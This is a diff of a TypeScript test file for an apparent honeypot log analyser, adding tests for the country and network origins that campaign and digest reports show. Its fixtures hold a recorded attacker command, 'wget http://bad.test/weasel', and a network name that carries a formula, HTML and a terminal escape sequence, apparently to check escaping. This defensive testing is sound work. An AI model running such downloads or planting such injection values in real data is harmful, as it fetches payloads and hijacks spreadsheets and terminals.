@@ -69,11 +69,45 @@ test("summary ranks countries and networks by their addresses", async () => {
   expect(text.stdout).toContain("Countries of addresses (3)\n");
 });
 
+test("campaigns and the digest tell countries and networks of their addresses, by which database", async () => {
+  const addresses = ["203.0.113.7", "203.0.113.9", "198.51.100.1", "192.0.2.1"];
+  const events = addresses.flatMap((src_ip, at) => [
+    { eventid: "session.connect", at, session: `c${at}`, src_ip, dst_port: 22 },
+    { eventid: "command.input", at, session: `c${at}`, src_ip, input: "wget http://bad.test/weasel" },
+  ]);
+  writeFileSync(join(folder.path, "weasel.json"), events.map(event => `${toLine(event)}\n`).join(""));
+  const runOn = (script: string, ...args: string[]) => runScript(script, ["weasel.json", "--mapped-dir", "tables", ...args, ...DATABASES], { cwd: folder.path });
+  const origins = {
+    countries: [{ country: "NL", addresses: 2 }, { country: null, addresses: 1 }, { country: "DE", addresses: 1 }],
+    networks: [{ network: null, addresses: 2 }, { network: "AS64496 =1+1 <b>\x1b[2J", addresses: 2 }],
+  };
+  const [campaign] = JSON.parse((await runOn("campaigns", "--json", "-q")).stdout).campaigns;
+  expect(campaign.origins).toEqual(origins);
+  expect(campaign.addresses.find(({ src_ip }: { src_ip: string }) => src_ip === "203.0.113.7")).toMatchObject({ country: "NL", asn: "AS64496" });
+  const csv = (await runOn("campaigns", "--csv", "-q")).stdout.split("\n");
+  expect(csv[0]).toEndWith(",chain,countries,as_networks");
+  expect(csv[1]).toEndWith(",NL DE,AS64496 =1+1 <b>\\x1b[2J");
+  const sheet = await runOn("campaigns", "--campaign", campaign.id);
+  expect(sheet.stdout).toContain("1 × 203.0.113.7  NL, AS64496 =1+1 <b>\\x1b[2J\n");
+  expect(sheet.stdout).toContain("Countries   NL 2, unknown 1, DE 1\nNetworks    2 addresses unknown\n            2 addresses AS64496");
+  expect(sheet.stderr).toContain("; origins by Test-Country of 2026-08-01, Test-ASN of 2026-08-01\n");
+  expect((await runOn("campaigns", "-q")).stdout).toMatch(/countries +largest network\n.* NL 2, unknown 1, DE 1  AS64496 =1\+1 <b>\\x1b\[2J 2\n/);
+
+  const digest = (await runOn("digest", "-q")).stdout;
+  expect(digest).toContain(
+    "Where addresses come from (Test-Country of 2026-08-01, Test-ASN of 2026-08-01)\n" +
+      "  countries: NL 2, unknown 1, DE 1\n  networks: unknown 2, AS64496 =1+1 <b>\\x1b[2J 2\n",
+  );
+  expect(JSON.parse((await runOn("digest", "--json", "-q")).stdout).origins).toMatchObject({ ...origins, databases: [{ name: "country.mmdb" }, { name: "asn.mmdb" }] });
+});
+
 test.each([
   ["value-counts", ["--column", "country"]],
   ["trace-ip", ["-i", "203.0.113.7"]],
   ["trace-sid", ["-sid", "s1"]],
   ["summary", []],
+  ["campaigns", []],
+  ["digest", []],
 ] as const)("%s refuses a broken database in one line, before it reads a log", async (script, args) => {
   writeFileSync(join(folder.path, "broken.mmdb"), "\xab\xcd\xefMaxMind.com", "latin1");
   const { stdout, stderr, exitCode } = await runHere(script, ...args, "--mmdb", "broken.mmdb");
